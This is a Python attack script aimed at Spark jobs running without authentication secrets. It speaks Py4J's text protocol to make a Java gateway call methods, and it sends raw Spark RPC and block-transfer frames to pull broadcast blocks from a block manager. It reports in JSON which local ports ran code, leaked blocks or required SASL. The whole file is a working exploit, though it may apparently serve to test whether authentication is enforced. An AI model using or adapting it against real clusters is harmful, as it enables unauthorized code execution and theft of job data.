"""Attacks on the ports of a Spark job without its secrets: `python spark_attacker.py PORT ...`, output in JSON.

`uid`: of the attacker. `run`: answers of ports that ran a method or read an object of Java for the attacker. `read`:
blocks of data that were sent. `rejected`: number of ports at which Spark demanded authentication. The formats are those
of Py4J's text protocol, and of Spark's `TransportFrameDecoder`, `Message` and `BlockTransferMessage`.
"""

import json
import os
import socket
import struct
import sys
from contextlib import suppress

PATIENCE_S = 3.0
CHUNK_REQUEST, CHUNK, RPC_REQUEST, RPC_RESPONSE, RPC_FAILURE = 0, 1, 3, 4, 5
OPEN_BLOCKS = 0
CALLS = (b"c\nz:java.lang.System\ngetProperty\nsjava.home\ne\n", b"c\np0\n__repr__\ne\n")
"""A static method of the Java virtual machine, and a method of the first object of Python that Java may call."""

BLOCKS = [f"broadcast_{number}_piece0" for number in range(40)]


def text(words: str) -> bytes:
    """Return a string in Spark's encoding."""
    return struct.pack(">i", len(words)) + words.encode()


class Peer:
    """Connection to a port."""

    def __init__(self, port: int) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), PATIENCE_S)

    def ask(self, message: bytes) -> bytes:
        """Send bytes; return what comes back at once."""
        with suppress(OSError):
            self._socket.sendall(message)
            return self._socket.recv(1 << 16)
        return b""

    def ask_spark(self, kind: int, body: bytes) -> tuple[int | None, bytes]:
        """Send a frame of Spark; return kind and content of the answer, without its number."""
        answer = self.ask(struct.pack(">qb", 9 + len(body), kind) + body)
        with suppress(OSError):
            while len(answer) < 9 or len(answer) < struct.unpack_from(">q", answer)[0]:
                more = self._socket.recv(1 << 16)
                if not more:
                    break
                answer += more
        return (answer[8], answer[17:]) if len(answer) > 9 else (None, b"")

    def open_block(self, block: str) -> tuple[int | None, bytes]:
        """Ask a block manager for a block; return kind and content of the answer."""
        body = bytes([OPEN_BLOCKS]) + text("app") + text("driver") + struct.pack(">i", 1) + text(block)
        return self.ask_spark(RPC_REQUEST, struct.pack(">qi", 7, len(body)) + body)


def read_block(port: int, block: str) -> bool:
    """Return whether a block manager sends a block."""
    peer = Peer(port)
    kind, answer = peer.open_block(block)
    # Behind the length and the kind of the message there is the number of the stream.
    return kind == RPC_RESPONSE and peer.ask_spark(CHUNK_REQUEST, answer[5:13] + struct.pack(">i", 0))[0] == CHUNK


def main(ports: list[int]) -> None:
    """Attack the ports."""
    run, read, rejected = [], [], 0
    for port in ports:
        run += [answer.decode() for call in CALLS if (answer := Peer(port).ask(call)).startswith(b"!y")]
        kind, answer = Peer(port).open_block(BLOCKS[0])
        if kind == RPC_FAILURE and b"java.io.ObjectInputStream" in answer:
            run.append(answer[4:].decode().splitlines()[0])
        elif kind == RPC_FAILURE and b"Sasl" in answer:
            rejected += 1
        elif kind is not None:
            read += [block for block in BLOCKS if read_block(port, block)]
    print(json.dumps({"uid": os.getuid(), "run": run, "read": read, "rejected": rejected}))


if __name__ == "__main__":
    main([int(port) for port in sys.argv[1:]])
